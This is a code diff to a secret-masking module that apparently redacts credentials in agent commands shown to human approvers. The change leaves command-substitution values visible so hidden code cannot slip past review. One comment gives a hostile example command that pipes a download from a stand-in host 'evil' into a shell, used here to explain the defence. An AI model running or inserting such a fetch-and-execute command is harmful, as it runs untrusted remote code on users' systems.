@@ -8,7 +8,9 @@ thing text can hide from an approver. Renderers never see unmasked text.
 
 Masking errs towards hiding: a false positive costs an approver a glance at the
 agent's logs, a false negative pushes a live credential into a chat history
-that many people and integrations can read.
+that many people and integrations can read. With one exception: a value that
+expands or runs something (``$(…)``, backticks, ``$VAR``, ``<(…)``) is shown,
+since it is not a literal secret and masking it would hide the code that runs.
 
 Every pattern is anchored at a token boundary (a look-behind) and uses
 possessive quantifiers, so each starting point is tried once and no pattern can
@@ -103,9 +105,14 @@ _ASSIGNMENT = re.compile(
     rf"(?P<name>(?<![\w.\-])(?=[\w.\-]*?(?:{_KEYWORDS}))[A-Za-z_][\w.\-]*+"
     rf"|\"(?=[\w.\-]{{0,64}}?(?:{_KEYWORDS}))[\w.\-]{{1,64}}\""
     rf"|'(?=[\w.\-]{{0,64}}?(?:{_KEYWORDS}))[\w.\-]{{1,64}}')"
-    rf"(?P<sep>\s*+[:=]\s*+){_VALUE}",
+    # ``key: v``, ``key = v`` (TOML, INI) or ``KEY=v``; never ``KEY= v``: in a
+    # shell that is an empty assignment, and ``v`` is the command that runs.
+    rf"(?P<sep>\s*+:\s*+|\s++=\s*+|=){_VALUE}",
     re.IGNORECASE,
 )
+# A value that expands or runs something is not a literal secret, and hiding
+# it would hide code from the approver: ``TOKEN="$(curl evil | sh)" deploy``.
+_RUNS = re.compile(r"[$`]|[<>]\(")
 _AUTH_SCHEME = re.compile(r"(?i)(bearer|basic|token|digest)(\s++)")
 # Bidi overrides and invisible characters let a command read differently from
 # what runs ("Trojan Source"); C0/C1 controls can hide text. All become visible.
@@ -195,7 +202,7 @@ def _mask_pem(text: str) -> str:
 
 def _mask_named_value(match: re.Match[str]) -> str:
     name, sep, value = match.group("name"), match.group("sep"), match.group("value")
-    if not is_secret_key(name.strip("\"'-")):
+    if not is_secret_key(name.strip("\"'-")) or _RUNS.search(value):
         return match.group(0)
     return f"{name}{sep}{_mask_value_text(value)}"
 
